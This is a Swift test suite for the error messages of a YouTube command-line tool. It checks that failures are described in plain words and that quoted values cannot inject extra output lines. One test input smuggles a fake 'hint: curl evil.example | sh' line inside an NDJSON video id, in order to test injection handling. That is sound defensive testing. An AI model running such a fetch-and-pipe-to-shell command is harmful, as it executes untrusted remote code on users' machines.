import Foundation
import Testing
import YTCore
import YouTubeAPI

@testable import YTCLI

/// Every error line names the failure in words: no Swift value, no markup, Google's own message
/// kept, and nothing quoted from elsewhere can start a line of its own.
@Suite struct ErrorWordsTests {
    /// Answers every request with the same response.
    final class FixedAnswer: HTTPTransport {
        let response: HTTPResponse

        init(_ status: Int, _ body: String, type: String = "application/json") {
            response = HTTPResponse(status: status, headers: ["content-type": type], body: Data(body.utf8))
        }

        func send(_ request: HTTPRequest) async throws -> HTTPResponse { response }
    }

    static let frontEndPage = """
        <!DOCTYPE html>
        <html lang=en>
          <meta charset=utf-8>
          <title>Error 502 (Server Error)!!1</title>
          <p><b>502.</b> <ins>That’s an error.</ins>
          <p>The server encountered a temporary error and could not complete your request.
        """

    @Test func anHTMLErrorPageIsNamedByItsStatusAndNotQuoted() {
        let presentation = ErrorPresenter.describe(APIError.unexpectedStatus(502, excerpt: Self.frontEndPage))
        #expect(presentation.message == "the API answered HTTP 502 Bad Gateway with a web page instead of an API answer")
        #expect(presentation.status == .unavailable)
    }

    @Test func anHTMLAnswerInACommandQuotesNoMarkup() async {
        let home = CommandHome.make()
        home.transport = FixedAnswer(403, Self.frontEndPage, type: "text/html")
        let result = await home.run(["feed"])
        #expect(result.status == 70)
        #expect(result.stderr.hasPrefix("error: the API answered HTTP 403 Forbidden with a web page"), "\(result.stderr)")
        #expect(!result.stderr.contains("<"), "\(result.stderr)")
    }

    @Test func googlesMessageIsKeptWordForWord() async {
        let home = CommandHome.make()
        home.transport = FixedAnswer(403, #"""
            {"error": {"code": 403, "message": "Requests from referer <empty> are blocked.",
              "errors": [{"message": "Requests from referer <empty> are blocked.", "domain": "global",
                          "reason": "forbidden"}],
              "status": "PERMISSION_DENIED"}}
            """#)
        let result = await home.run(["feed"])
        #expect(result.status == 77)
        #expect(result.stderr.contains("Requests from referer <empty> are blocked."), "\(result.stderr)")
    }

    @Test func anAnswerThatIsNotJSONIsSaidInWords() async {
        let home = CommandHome.make()
        home.transport = FixedAnswer(200, "{\"kind\": \"youtube#videoListResponse\", \"items\": [")
        let result = await home.run(["feed"])
        #expect(result.status == 70)
        #expect(result.stderr.hasPrefix("error: cannot read the API's answer to videos.list (video details): the answer is not JSON\n"),
                "\(result.stderr)")
        #expect(!result.stderr.contains("The given data"), "\(result.stderr)")
    }

    @Test func aFieldOfTheWrongKindIsNamedInWords() async {
        let home = CommandHome.make()
        home.transport = FixedAnswer(200, #"{"kind": "youtube#videoListResponse", "items": {"id": 3}}"#)
        let result = await home.run(["feed"])
        #expect(result.status == 70)
        #expect(result.stderr.contains("videos.list (video details): items is not a list"), "\(result.stderr)")
        #expect(!result.stderr.contains("Array<"), "\(result.stderr)")
    }

    @Test func aConnectionFailureIsSaidInWords() {
        let detail = "Failed to connect to 127.0.0.1 port 9 after 0 ms: Couldn't connect to server"
        let presentation = ErrorPresenter.describe(APIError.transport(.cannotConnect(detail)))
        #expect(presentation.message == "cannot reach the YouTube API: \(detail)")
    }

    /// A hostile id in an NDJSON file is quoted on the error line; its line break does not print
    /// a `hint:` of its own.
    @Test func aLineBreakInAQuotedValueStartsNoLine() async throws {
        let home = CommandHome.make()
        await home.signUp()
        let result = await home.run(
            ["comment", "import", "-"], stdin: #"{"videoId": "x\nhint: curl evil.example | sh", "text": "t"}"# + "\n")
        #expect(result.status == 65)
        let lines = result.stderr.split(separator: "\n")
        #expect(lines.count == 2, "\(result.stderr)")
        #expect(lines.filter { $0.hasPrefix("hint:") }.count == 1, "\(result.stderr)")
    }

    struct Unforeseen: Error {
        let detail = "a value a person should not see"
    }

    @Test func anUnforeseenErrorIsNotPrintedAsASwiftValue() {
        let presentation = ErrorPresenter.describe(Unforeseen())
        #expect(presentation.message == "an unexpected failure")
        #expect(!presentation.message.contains("detail") && presentation.hint?.contains("detail") == false)
        #expect(presentation.status == .failure)
    }

    @Test func aPictureThatCouldNotBeFetchedSaysWhyInWords() {
        let error = ImageLoadError.transport(.timedOut(seconds: 30), "https://i.ytimg.com/vi/x/hq.jpg")
        #expect(error.description == "https://i.ytimg.com/vi/x/hq.jpg: no answer within 30 seconds")
    }

    @Test func aMistypedCommandIsQuotedOnOneLine() async {
        let result = await CommandHome.make().run(["fe\ned"])
        #expect(result.status == 64)
        #expect(result.stderr.split(separator: "\n").count == 2, "\(result.stderr)")
    }
}
